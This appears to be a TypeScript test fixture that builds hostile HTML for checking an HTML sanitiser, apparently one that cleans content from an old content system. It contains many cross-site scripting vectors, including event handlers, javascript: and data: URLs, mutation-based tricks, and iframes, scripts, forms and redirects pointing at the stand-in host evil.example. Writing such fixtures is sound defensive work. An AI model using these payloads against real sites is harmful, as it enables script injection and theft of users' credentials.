/** Any attack that succeeds sets this; the tests look for it. */
const ATTACK = 'window.hacked=true';

/** HTML as an old content system may send it: attacks, and markup that is only messy. */
export const hostileHtml = (origin: string): string => `
  <h1>A heading that must not be the first</h1>
  <script>${ATTACK}</script><SCRIPT SRC="//evil.example/x.js"></SCRIPT>
  <img src=x onerror="${ATTACK}"><img src="javascript:${ATTACK}"><img src="data:text/html,<script>${ATTACK}</script>">
  <svg onload="${ATTACK}"><script>${ATTACK}</script></svg>
  <math><mtext><style><img src=x onerror="${ATTACK}"></style></mtext></math>
  <p style="position:fixed;inset:0" onclick="${ATTACK}" onmouseover="${ATTACK}">A paragraph with handlers</p>
  <a href="javascript:${ATTACK}">script link</a> <a href=" java&#10;script:${ATTACK}">split script link</a>
  <a href="data:text/html,<script>${ATTACK}</script>">data link</a> <a href="vbscript:${ATTACK}">other script link</a>
  <form action="https://evil.example/"><input name="password"><button formaction="javascript:${ATTACK}">Send</button></form>
  <iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>parent.${ATTACK}</script>"></iframe>
  <iframe src="https://www.youtube.com/embed/aaaaaaaaaaa"></iframe>
  <object data="https://evil.example/o"></object><embed src="https://evil.example/e">
  <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
  <link rel="stylesheet" href="https://evil.example/s.css"><style>body{display:none}</style>
  <p lang="</body></html><script>${ATTACK}</script>">A paragraph with tags in an attribute</p>
  <p></p><p>&nbsp;</p><br><br><br><div><div><div><p>A paragraph in three wrappers</p></div></div></div>
  <p><a href="${origin}/uploads/lantern-1.jpg">A link to the provider itself</a></p>
  <p><img src="${origin}/uploads/lantern-1.jpg" srcset="${origin}/uploads/lantern-2.jpg 2x" alt="Pier at ${origin}"></p>
  <ul><li>A list <img src="/uploads/lantern-3.jpg" width="1200" height="800"></li></ul>
  <p>Unclosed <b>bold <i>text
  <template><img src=x onerror="${ATTACK}"></template><noscript><p title="</noscript><img src=x onerror=${ATTACK}>"></noscript>`;
